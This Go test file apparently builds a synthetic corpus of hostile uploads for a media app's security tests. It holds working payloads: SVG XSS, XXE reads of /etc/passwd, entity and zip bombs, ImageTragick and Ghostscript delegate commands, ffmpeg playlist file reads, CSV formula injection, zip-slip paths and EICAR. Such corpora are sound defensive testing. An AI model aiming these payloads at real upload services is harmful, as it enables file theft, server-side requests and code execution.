// SPDX-License-Identifier: Apache-2.0

package app

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"strings"
	"testing"

	"tillgang/internal/scan/scantest"
)

// hostileFile is one file of the corpus. Everything in it is synthetic and
// harmless outside of a program that it would harm.
type hostileFile struct {
	name    string
	content []byte
	class   string   // what it tries
	states  []string // what may become of it; empty: ready, failed or quarantined
}

// sentinel is what no page may ever run.
const sentinel = "<script>document.title='XSS'</script>"

// hostileFiles makes the corpus; canary is an address that must never be asked for.
func hostileFiles(t *testing.T, canary string) []hostileFile {
	t.Helper()
	var out []hostileFile
	add := func(name, class string, content []byte, states ...string) {
		out = append(out, hostileFile{name, content, class, states})
	}
	text := func(name, class, content string, states ...string) { add(name, class, []byte(content), states...) }

	const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">`
	text("svg_script.svg", "active", svg+sentinel+`<rect width="10" height="10"/></svg>`)
	text("svg_onload.svg", "active", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><a xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink"><text y="9">x</text></a></svg>`)
	text("svg_foreign.svg", "active", svg+`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:alert(1)"/></body></foreignObject></svg>`)
	text("svg_ssrf.svg", "ssrf", svg+`<image xlink:href="`+canary+`/svg" width="9" height="9"/><image xlink:href="file:///etc/passwd" width="9" height="9"/><style>@import url(`+canary+`/css);</style></svg>`)
	text("svg_xxe.svg", "xxe", `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text y="9">&x;</text></svg>`)
	laughs, uses := "", ""
	for i := range 9 {
		laughs += fmt.Sprintf(`<!ENTITY %c "%s">`, 'b'+i, strings.Repeat(fmt.Sprintf("&%c;", 'a'+i), 10))
		uses += fmt.Sprintf(`<g id="g%d">%s</g>`, i+1, strings.Repeat(fmt.Sprintf(`<use xlink:href="#g%d"/>`, i), 10))
	}
	text("svg_laughs.svg", "bomb", `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">`+laughs+`]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`)
	text("svg_uses.svg", "bomb", svg+`<defs><g id="g0"><rect width="1" height="1"/></g>`+uses+`</defs><use xlink:href="#g9"/></svg>`)
	var svgz bytes.Buffer
	gz := gzip.NewWriter(&svgz)
	_, _ = gz.Write([]byte(svg + strings.Repeat(" ", 30<<20) + "</svg>"))
	_ = gz.Close()
	add("drawing.svgz", "bomb", svgz.Bytes())

	text("html.jpg", "disguise", "<!doctype html>"+sentinel, "quarantined")
	add("comment.jpg", "polyglot", withComment(smallJPEG, sentinel))
	add("itxt.png", "polyglot", smallPNG(chunk("iTXt", []byte("XML:com.adobe.xmp\x00\x00\x00\x00\x00<x:xmpmeta xmlns:x=\"adobe:ns:meta/\">"+sentinel+"</x:xmpmeta>"))))
	text("script.gif", "polyglot", "GIF89a=1;/*\x00\x00*/alert(1);//")
	text("javascript.pdf", "active", "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF")
	text("html.pdf", "polyglot", "%PDF-1.4\n%<html>"+sentinel+"</html>\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>")
	add("archive.png", "polyglot", append(smallPNG(nil), zipOf(t, zip.Store, map[string]string{"evil.jar": "x"})...))

	text("tragick.mvg", "delegate", "push graphic-context\nviewbox 0 0 64 48\nfill 'url("+canary+"/mvg\"|id\")'\npop graphic-context\n")
	text("tragick.jpg", "delegate", "push graphic-context\nviewbox 0 0 64 48\nimage Over 0,0 0,0 '"+canary+"/mvg2'\npop graphic-context\n", "quarantined")
	text("tragick.msl", "delegate", `<?xml version="1.0"?><image><read filename="`+canary+`/msl"/><write filename="/tmp/tillgang_pwned.php"/></image>`)
	text("pipe.eps", "delegate", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(%pipe%id>/tmp/tillgang_pwned_gs) (w) file\nshowpage\n")
	text("postscript.pdf", "disguise", "%!PS\n(/etc/passwd) (r) file 100 string readstring pop ==\nshowpage", "quarantined")

	text("local.mp4", "playlist", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n", "quarantined", "failed")
	text("remote.avi", "playlist", "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\n"+canary+"/hls\n#EXT-X-ENDLIST\n", "quarantined", "failed")
	text("concat.m3u8", "playlist", "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:,\nconcat:"+canary+"/c?|file:///etc/passwd\n#EXT-X-ENDLIST\n")
	text("concat.mov", "playlist", "ffconcat version 1.0\nfile '/etc/passwd'\n", "quarantined", "failed")
	text("dash.mp4", "playlist", `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation id="1" bandwidth="1"><BaseURL>`+canary+`/dash</BaseURL><SegmentBase/></Representation></AdaptationSet></Period></MPD>`, "quarantined", "failed")
	text("subtitles.srt", "active", "1\n00:00:00,000 --> 00:00:09,000\n<script>alert(1)</script><img src="+canary+"/srt>\n")
	text("captions.vtt", "active", "WEBVTT\n\nSTYLE\n::cue { background: url("+canary+"/vtt) }\n\n00:00.000 --> 00:09.000\n<v <img src=x onerror=alert(1)>>hi\n")

	add("flood.png", "bomb", ihdr(60000, 60000), "failed")
	flood := bytes.Clone(smallJPEG)
	if at := bytes.Index(flood, []byte{0xff, 0xc0}); at > 0 {
		binary.BigEndian.PutUint32(flood[at+5:], 0xffdcffdc)
	}
	add("flood.jpg", "bomb", flood, "failed")
	add("frames.gif", "bomb", slicesOf([]byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"), bytes.Repeat([]byte("\x2c\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00"), 20000), []byte(";")))
	bomb := zipOf(t, zip.Deflate, map[string]string{"zeros": strings.Repeat("\x00", 50<<20)})
	add("zeros.zip", "bomb", bomb, "ready")
	nested, many := map[string]string{}, map[string]string{}
	for i := range 70_000 {
		if i < 20 {
			nested[fmt.Sprint(i, ".zip")] = string(bomb)
		}
		many[fmt.Sprint("d/", i)] = ""
	}
	add("nested.zip", "bomb", zipOf(t, zip.Deflate, nested), "ready")
	add("many.zip", "bomb", zipOf(t, zip.Store, many), "ready")
	add("slip.zip", "slip", zipOf(t, zip.Store, map[string]string{"../../../../tmp/tillgang_slipped": "x", "/abs/x": "x", `..\..\win.txt`: "x"}), "ready")

	add("xxe.docx", "xxe", zipOf(t, zip.Deflate, map[string]string{
		"[Content_Types].xml": `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % r SYSTEM "` + canary + `/docx">%r;]><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`,
		"word/document.xml":   `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><w:document xmlns:w="x">&e;</w:document>`,
	}))
	add("remote.odt", "ssrf", odt(t, `<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"><draw:image xlink:href="`+canary+`/odt"/></office:document-content>`))
	text("entity.xmp", "xxe", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&e;</dc:title></rdf:Description></rdf:RDF></x:xmpmeta>`)
	text("formula.csv", "active", "name,title\n=HYPERLINK(\""+canary+"/csv\",\"x\"),@SUM(1+1)|cmd'!A0\n")
	ant := "(metadata \"\\c${print STDERR qq(PWNED)};\")"
	add("djvu.jpg", "delegate", slicesOf([]byte("AT&TFORM"), be32(4+8+10+8+len(ant)), []byte("DJVUINFO"), be32(10), []byte{0, 1, 0, 1, 24, 0, 44, 1, 22, 1}, []byte("ANTa"), be32(len(ant)), []byte(ant)), "quarantined")
	add("eicar.com", "malware", scantest.Eicar(), "quarantined")
	add("eicar.jpg", "malware", append(bytes.Clone(smallJPEG), scantest.Eicar()...), "quarantined")
	add("truncated.png", "broken", smallPNG(nil)[:40], "failed")
	text("truncated.mp4", "broken", "\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom\xff\xff\xff\xffmoov", "failed")
	return out
}

var smallJPEG = func() []byte {
	b, err := hex.DecodeString("ffd8ffe000104a46494600010100000100010000ffdb004300" + strings.Repeat("01", 64) +
		"ffc0000b080001000101011100ffc4001f0000010501010101010100000000000000000102030405060708090a0bffda0008010100003f00d2cf20ffd9")
	if err != nil {
		panic(err)
	}
	return b
}()

func withComment(jpeg []byte, text string) []byte {
	return slicesOf(jpeg[:2], []byte{0xff, 0xfe, 0, byte(2 + len(text))}, []byte(text), jpeg[2:])
}

func slicesOf(parts ...[]byte) []byte { return bytes.Join(parts, nil) }

func be32(n int) []byte { return binary.BigEndian.AppendUint32(nil, uint32(n)) }

func chunk(kind string, data []byte) []byte {
	b := slicesOf(be32(len(data)), []byte(kind), data)
	return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
}

func smallPNG(extra []byte) []byte {
	var z bytes.Buffer
	to := zlib.NewWriter(&z)
	_, _ = to.Write(bytes.Repeat([]byte("\x00\x80\x80\x80\x80\x80\x80\x80\x80"), 8))
	_ = to.Close()
	return slicesOf([]byte("\x89PNG\r\n\x1a\n"), chunk("IHDR", slicesOf(be32(8), be32(8), []byte{8, 0, 0, 0, 0})), extra, chunk("IDAT", z.Bytes()), chunk("IEND", nil))
}

func zipOf(t *testing.T, method uint16, files map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, content := range files {
		w, err := z.CreateHeader(&zip.FileHeader{Name: name, Method: method})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(content)); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// odt is an OpenDocument text, whose type is its first member.
func odt(t *testing.T, content string) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, f := range [][2]string{{"mimetype", "application/vnd.oasis.opendocument.text"}, {"content.xml", content}} {
		w, err := z.CreateHeader(&zip.FileHeader{Name: f[0], Method: zip.Store})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(f[1])); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}
